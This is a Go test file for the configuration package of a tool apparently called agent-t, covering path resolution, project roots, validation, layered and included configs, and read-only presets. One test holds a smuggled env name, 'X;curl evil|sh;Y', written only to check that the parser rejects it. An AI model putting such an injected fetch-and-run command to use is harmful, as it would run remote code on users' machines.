@@ -0,0 +1,394 @@
+package config
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestWorktreeRoot(t *testing.T) {
+	t.Setenv("HOME", "/home/me")
+	t.Setenv("XDG_DATA_HOME", "")
+
+	root, err := (&Config{}).WorktreeRoot()
+	if err != nil || root != "/home/me/.local/share/agent-t/worktrees" {
+		t.Errorf("default WorktreeRoot() = %q, %v", root, err)
+	}
+
+	t.Setenv("XDG_DATA_HOME", "/data")
+	root, err = (&Config{}).WorktreeRoot()
+	if err != nil || root != "/data/agent-t/worktrees" {
+		t.Errorf("WorktreeRoot() with XDG_DATA_HOME = %q, %v", root, err)
+	}
+	t.Setenv("XDG_DATA_HOME", "data")
+	if root, _ = (&Config{}).WorktreeRoot(); root != "/home/me/.local/share/agent-t/worktrees" {
+		t.Errorf("WorktreeRoot() should ignore a relative XDG_DATA_HOME, got %q", root)
+	}
+
+	root, err = (&Config{WorktreeDir: "~/src/.worktrees"}).WorktreeRoot()
+	if err != nil || root != "/home/me/src/.worktrees" {
+		t.Errorf("WorktreeRoot() with ~ = %q, %v", root, err)
+	}
+
+	root, err = (&Config{WorktreeDir: "/tmp/wt"}).WorktreeRoot()
+	if err != nil || root != "/tmp/wt" {
+		t.Errorf("WorktreeRoot() with an absolute dir = %q, %v", root, err)
+	}
+}
+
+func TestStateDir(t *testing.T) {
+	t.Setenv("HOME", "/home/me")
+	t.Setenv("XDG_STATE_HOME", "")
+	if dir, _ := StateDir(); dir != filepath.Join("/home/me", ".local", "state", "agent-t") {
+		t.Errorf("StateDir() = %q", dir)
+	}
+	t.Setenv("XDG_STATE_HOME", "/state")
+	if dir, _ := StateDir(); dir != "/state/agent-t" {
+		t.Errorf("StateDir() with XDG_STATE_HOME = %q", dir)
+	}
+	t.Setenv("XDG_STATE_HOME", "state")
+	if dir, _ := StateDir(); dir != filepath.Join("/home/me", ".local", "state", "agent-t") {
+		t.Errorf("StateDir() should ignore a relative XDG_STATE_HOME, got %q", dir)
+	}
+}
+
+func TestRoots(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	for _, d := range []string{"code", "work/a", "work/b"} {
+		if err := os.MkdirAll(filepath.Join(home, d), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.WriteFile(filepath.Join(home, "work", "notes"), nil, 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg := &Config{ProjectRoots: []string{"~/code", "~/work/*", "~/none/*", "/missing"}}
+	roots, err := cfg.Roots()
+	if err != nil {
+		t.Fatalf("Roots: %v", err)
+	}
+	want := []string{
+		filepath.Join(home, "code"),
+		filepath.Join(home, "work", "a"),
+		filepath.Join(home, "work", "b"),
+		"/missing", // kept so scanning reports it
+	}
+	if strings.Join(roots, ",") != strings.Join(want, ",") {
+		t.Errorf("Roots() = %v, want %v", roots, want)
+	}
+
+	// Relative roots are taken from the config file's directory, wherever
+	// agent-t runs
+	path := writeConfig(t, "project_roots: [code, ../elsewhere]\n")
+	wd, _ := os.Getwd()
+	if err := os.Chdir(t.TempDir()); err != nil {
+		t.Fatal(err)
+	}
+	defer os.Chdir(wd)
+	loaded, err := Load()
+	if err != nil {
+		t.Fatal(err)
+	}
+	roots, err = loaded.Roots()
+	if err != nil {
+		t.Fatalf("Roots: %v", err)
+	}
+	dir := filepath.Dir(path)
+	want = []string{filepath.Join(dir, "code"), filepath.Join(filepath.Dir(dir), "elsewhere")}
+	if strings.Join(roots, ",") != strings.Join(want, ",") {
+		t.Errorf("relative Roots() = %v, want %v", roots, want)
+	}
+}
+
+func TestScansCwd(t *testing.T) {
+	off := false
+	if !(&Config{}).ScansCwd() {
+		t.Error("the working directory should be scanned by default")
+	}
+	if (&Config{ScanCwd: &off}).ScansCwd() {
+		t.Error("scan_cwd: false should replace the working directory with the roots")
+	}
+}
+
+func TestValidate(t *testing.T) {
+	cfg, err := Parse([]byte(`default_layout: "5,5"
+defualt_tool: "Codex"
+default_tool: "Cursor"
+custom_layouts:
+  - name: "wide"
+    row_cols: [4, 0]
+  - name: "huge"
+    row_cols: [10, 11]
+  - name: "tall"
+    row_cols: [1, 1, 1]
+presets:
+  - name: "api"
+    project: "api"
+    layout: "2x2"
+    tool: "Codex"
+  - name: "api"
+    project: "gone"
+    layout: "1,1,1"
+    color: red
+  - name: "split"
+    layout: "9,9"
+    rows:
+      - project: "api"
+        tool: "Nope"
+      - project: "web"
+`))
+	if err != nil {
+		t.Fatalf("Parse: %v", err)
+	}
+	got := cfg.Validate(Names{
+		Projects: []string{"api", "web"},
+		Tools:    []string{"Codex"},
+		Layouts:  []string{"2", "2,2"},
+	})
+	want := []string{
+		`line 1: default_layout "5,5" matches no layout`,
+		`line 2: unknown key "defualt_tool"`,
+		`line 3: default_tool "Cursor" matches no tool`,
+		`line 5: custom layout "wide": row_cols has 0 columns in a row, need at least 1`,
+		`line 7: custom layout "huge": row_cols has 21 cells, at most 20 are supported`,
+		`line 16: duplicate preset name "api", first defined on line 12`,
+		`line 17: preset "api": project "gone" not found`,
+		`line 19: unknown key "presets[1].color"`,
+		`line 21: preset "split": layout "9,9" not found`,
+		`line 24: preset "split": tool "Nope" not found`,
+	}
+	if len(got) != len(want) {
+		t.Fatalf("Validate() = %v, want %d problems", got, len(want))
+	}
+	for i := range want {
+		if got[i].String() != want[i] {
+			t.Errorf("problem %d = %q, want %q", i, got[i], want[i])
+		}
+	}
+
+	if problems := cfg.Validate(Names{Tools: []string{"Codex", "Cursor"}, Layouts: []string{"2,2", "5,5"}}); len(problems) != 7 {
+		t.Errorf("without projects, Validate() = %v", problems)
+	}
+}
+
+func TestParse_InvalidEnvName(t *testing.T) {
+	cfg, err := Parse([]byte(`presets:
+  - name: web
+    project: web
+    layout: "2"
+    cells:
+      - env:
+          "X;curl evil|sh;Y": "1"
+          PORT: "3000"
+`))
+	if err != nil {
+		t.Fatalf("Parse: %v", err)
+	}
+	env := cfg.Presets[0].Cells[0].Env
+	if _, ok := env["X;curl evil|sh;Y"]; ok || env["PORT"] != "3000" {
+		t.Errorf("env = %v, want only PORT", env)
+	}
+	problems := cfg.Validate(Names{Layouts: []string{"2"}})
+	if len(problems) != 1 || problems[0].String() != `line 6: preset "web": cell 1: env name "X;curl evil|sh;Y" is not a valid variable name` {
+		t.Errorf("Validate() = %v", problems)
+	}
+}
+
+func TestValidate_NotFromFile(t *testing.T) {
+	cfg := &Config{Presets: []Preset{{Name: "a", Project: "api", Layout: "7"}}}
+	problems := cfg.Validate(Names{Projects: []string{"api"}})
+	if len(problems) != 1 || problems[0].String() != `preset "a": layout "7" not found` {
+		t.Errorf("Validate() = %v", problems)
+	}
+}
+
+func TestPath(t *testing.T) {
+	t.Setenv("HOME", "/home/me")
+	t.Setenv("AGENT_T_CONFIG", "")
+	t.Setenv("XDG_CONFIG_HOME", "")
+	if path, err := Path(); err != nil || path != "/home/me/.config/agent-t/config.yaml" {
+		t.Errorf("default Path() = %q, %v", path, err)
+	}
+	t.Setenv("XDG_CONFIG_HOME", "relative")
+	if path, _ := Path(); path != "/home/me/.config/agent-t/config.yaml" {
+		t.Errorf("Path() should ignore a relative XDG_CONFIG_HOME, got %q", path)
+	}
+	t.Setenv("XDG_CONFIG_HOME", "/xdg")
+	if path, _ := Path(); path != "/xdg/agent-t/config.yaml" {
+		t.Errorf("Path() with XDG_CONFIG_HOME = %q", path)
+	}
+	t.Setenv("AGENT_T_CONFIG", "/ci/agent-t.yaml")
+	if path, _ := Path(); path != "/ci/agent-t.yaml" {
+		t.Errorf("Path() with AGENT_T_CONFIG = %q", path)
+	}
+	SetPath("/flag.yaml")
+	defer SetPath("")
+	if path, _ := Path(); path != "/flag.yaml" {
+		t.Errorf("Path() with --config = %q", path)
+	}
+}
+
+func TestSystemPaths(t *testing.T) {
+	t.Setenv("XDG_CONFIG_DIRS", "")
+	if got := SystemPaths(); len(got) != 1 || got[0] != "/etc/xdg/agent-t/config.yaml" {
+		t.Errorf("default SystemPaths() = %v", got)
+	}
+	t.Setenv("XDG_CONFIG_DIRS", "/first:relative:/second")
+	if got := SystemPaths(); len(got) != 2 || got[0] != "/second/agent-t/config.yaml" || got[1] != "/first/agent-t/config.yaml" {
+		t.Errorf("SystemPaths() should put the most important directory last, got %v", got)
+	}
+}
+
+func TestLoad_SystemLayer(t *testing.T) {
+	user := writeConfig(t, "default_tool: Codex\npresets:\n  - {name: mine, project: api, layout: \"2\"}\n  - {name: team, project: web, layout: \"3\"}\n")
+	system := SystemPaths()[0]
+	if err := os.MkdirAll(filepath.Dir(system), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	err := os.WriteFile(system, []byte(`default_tool: Claude Code
+backend: tmux
+custom_commands:
+  Lint: make lint
+presets:
+  - {name: team, project: api, layout: "2,2"}
+  - {name: shared, project: api, layout: "4,4"}
+  - {name: bad, project: api, layout: "2", colour: red}
+`), 0o644)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, err := Load()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.DefaultTool != "Codex" || cfg.Backend != "tmux" || cfg.CustomCommands["Lint"] != "make lint" {
+		t.Errorf("user settings should layer over system ones: %+v", cfg)
+	}
+	if got := presetNames(cfg); got != "team,shared,bad,mine" {
+		t.Errorf("presets = %s", got)
+	}
+	if p, _ := cfg.FindPreset("team"); p.Project != "web" {
+		t.Errorf("the user's preset should replace the system one, got %+v", p)
+	}
+	problems := cfg.Validate(Names{Tools: []string{"Codex", "Claude Code"}, Layouts: []string{"2", "3", "2,2", "4,4"}})
+	if len(problems) != 1 || problems[0].File != system || problems[0].Line != 8 {
+		t.Errorf("Validate() = %v, want the unknown key in the system file", problems)
+	}
+
+	// System presets and commands are read-only, unless the user's file
+	// replaces them
+	if cfg.ReadOnlyFrom("shared") != system || cfg.ReadOnlyFrom("team") != "" {
+		t.Errorf("ReadOnlyFrom: shared=%q team=%q", cfg.ReadOnlyFrom("shared"), cfg.ReadOnlyFrom("team"))
+	}
+	if err := cfg.DeletePreset("shared"); !errors.Is(err, ErrPresetReadOnly) {
+		t.Errorf("deleting a system preset: got %v, want ErrPresetReadOnly", err)
+	}
+	delete(cfg.CustomCommands, "Lint")
+	if err := Save(cfg); !errors.Is(err, ErrCommandReadOnly) {
+		t.Errorf("saving without a system command: got %v, want ErrCommandReadOnly", err)
+	}
+	cfg.CustomCommands["Lint"] = "make lint"
+
+	cfg.AddPreset(Preset{Name: "new", Project: "api", Layout: "2"})
+	if err := Save(cfg); err != nil {
+		t.Fatal(err)
+	}
+	data, _ := os.ReadFile(user)
+	if s := string(data); strings.Contains(s, "shared") || strings.Contains(s, "tmux") || !strings.Contains(s, "name: new") {
+		t.Errorf("Save should write only the user's changes to the user file:\n%s", s)
+	}
+	if got := presetNames(cfg); got != "team,shared,bad,mine,new" {
+		t.Errorf("after Save, presets = %s", got)
+	}
+}
+
+func TestLoad_Include(t *testing.T) {
+	user := writeConfig(t, `version: 1
+include:
+  - team/presets.yaml
+  - ~/shared/*.yaml
+  - missing.yaml
+presets:
+  - {name: mine, project: api, layout: "2"}
+  - {name: review, project: web, layout: "2"}
+`)
+	home := os.Getenv("HOME")
+	team := filepath.Join(filepath.Dir(user), "team", "presets.yaml")
+	files := map[string]string{
+		team: `custom_commands:
+  Lint: make lint
+presets:
+  - {name: api-pair, project: api, layout: "2,2", tool: Codex}
+  - {name: review, project: api, layout: "3"}
+`,
+		filepath.Join(home, "shared", "layouts.yaml"): "custom_layouts:\n  - {name: wide, row_cols: [5]}\nbackend: tmux\n",
+	}
+	for path, data := range files {
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(data), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	cfg, err := Load()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := presetNames(cfg); got != "api-pair,review,mine" {
+		t.Errorf("presets = %s", got)
+	}
+	if cfg.CustomCommands["Lint"] != "make lint" || len(cfg.CustomLayouts) != 1 || cfg.Backend != "" {
+		t.Errorf("includes should add commands and layouts only: %+v", cfg)
+	}
+	var included []string
+	for _, f := range cfg.IncludedFiles() {
+		if f.From != user {
+			t.Errorf("IncludedFiles: %s included from %s, want %s", f.Path, f.From, user)
+		}
+		included = append(included, f.Path)
+	}
+	wantIncluded := []string{team, filepath.Join(home, "shared", "layouts.yaml"), filepath.Join(filepath.Dir(user), "missing.yaml")}
+	if strings.Join(included, ",") != strings.Join(wantIncluded, ",") {
+		t.Errorf("IncludedFiles = %q, want %q", included, wantIncluded)
+	}
+	if cfg.ReadOnlyFrom("api-pair") != team || cfg.ReadOnlyFrom("review") != "" || cfg.ReadOnlyFrom("mine") != "" {
+		t.Errorf("ReadOnlyFrom: api-pair=%q review=%q", cfg.ReadOnlyFrom("api-pair"), cfg.ReadOnlyFrom("review"))
+	}
+	for _, err := range []error{
+		cfg.DeletePreset("api-pair"),
+		cfg.RenamePreset("api-pair", "x"),
+		cfg.UpdatePreset("api-pair", Preset{Name: "api-pair"}),
+	} {
+		if !errors.Is(err, ErrPresetReadOnly) {
+			t.Errorf("changing an included preset: got %v, want ErrPresetReadOnly", err)
+		}
+	}
+
+	problems := cfg.Validate(Names{Layouts: []string{"2", "3", "2,2"}, Tools: []string{"Codex"}})
+	var msgs []string
+	for _, p := range problems {
+		msgs = append(msgs, p.String())
+	}
+	if len(problems) != 2 || !strings.Contains(msgs[0], `unknown key "backend"`) || !strings.Contains(msgs[1], user+`:5: include "missing.yaml"`) {
+		t.Errorf("Validate() = %q", msgs)
+	}
+
+	cfg.AddPreset(Preset{Name: "new", Project: "api", Layout: "2"})
+	if err := Save(cfg); err != nil {
+		t.Fatal(err)
+	}
+	data, _ := os.ReadFile(user)
+	if strings.Contains(string(data), "api-pair") || strings.Contains(string(data), "Lint") {
+		t.Errorf("Save should not copy included settings into the config file:\n%s", data)
+	}
+	if cfg.ReadOnlyFrom("api-pair") != team {
+		t.Error("included presets should stay read-only after Save")
+	}
+}